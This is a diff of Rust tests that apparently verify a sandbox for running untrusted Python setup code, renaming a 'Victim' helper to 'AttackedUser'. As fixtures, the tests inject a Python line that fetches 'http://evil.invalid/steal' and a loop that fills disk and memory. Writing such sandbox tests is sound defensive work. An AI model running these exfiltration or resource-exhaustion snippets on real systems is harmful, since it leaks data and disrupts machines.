@@ -17,14 +17,14 @@ use super::index::IndexServer;
 const NOBODY: u32 = 65534;
 
 /// A user with a home directory that is not below `/tmp`, and a buildout in it.
-struct Victim {
+struct AttackedUser {
     root: tempfile::TempDir,
     index: IndexServer,
     user: Option<u32>,
     _agent: UnixListener,
 }
 
-impl Victim {
+impl AttackedUser {
     /// The user who runs the tests, or an ordinary one (the same if root does not run them).
     fn new(is_ordinary: bool) -> Self {
         let root = tempfile::Builder::new().prefix("user-").tempdir_in("/var/tmp").unwrap();
@@ -112,7 +112,7 @@ impl Victim {
 #[test]
 fn a_hostile_setup_gets_nothing() {
     for is_ordinary in [false, true] {
-        let victim = Victim::new(is_ordinary);
+        let victim = AttackedUser::new(is_ordinary);
         victim.add(include_str!("attempts.py"));
         let (printed, succeeded) = victim.run(&[]);
         assert!(succeeded && printed.contains("Got sourced 1.0."), "{printed}");
@@ -124,7 +124,7 @@ fn a_hostile_setup_gets_nothing() {
 #[test]
 fn a_hostile_project_in_develop_gets_nothing() {
     for is_ordinary in [false, true] {
-        let victim = Victim::new(is_ordinary);
+        let victim = AttackedUser::new(is_ordinary);
         victim.add(include_str!("attempts.py"));
         let sources = victim.path("home/buildout/project");
         fs::create_dir(&sources).unwrap();
@@ -149,7 +149,7 @@ fn a_hostile_project_in_develop_gets_nothing() {
 
 #[test]
 fn what_a_setup_tried_is_named() {
-    let victim = Victim::new(true);
+    let victim = AttackedUser::new(true);
     victim.add("import urllib.request\nurllib.request.urlopen('http://evil.invalid/steal').read()\n");
     let (printed, succeeded) = victim.run(&[]);
     assert!(!succeeded && printed.contains("tried to connect to evil.invalid:80"), "{printed}");
@@ -163,7 +163,7 @@ fn what_a_setup_tried_is_named() {
 
 #[test]
 fn a_setup_that_fills_memory_or_the_disk_ends() {
-    let victim = Victim::new(true);
+    let victim = AttackedUser::new(true);
     // Its private /tmp is in memory, and limited.
     victim.add(
         "data = b'x' * (64 << 20)\nwith open('/tmp/big', 'wb') as big:\n    while True:\n        big.write(data)\n",
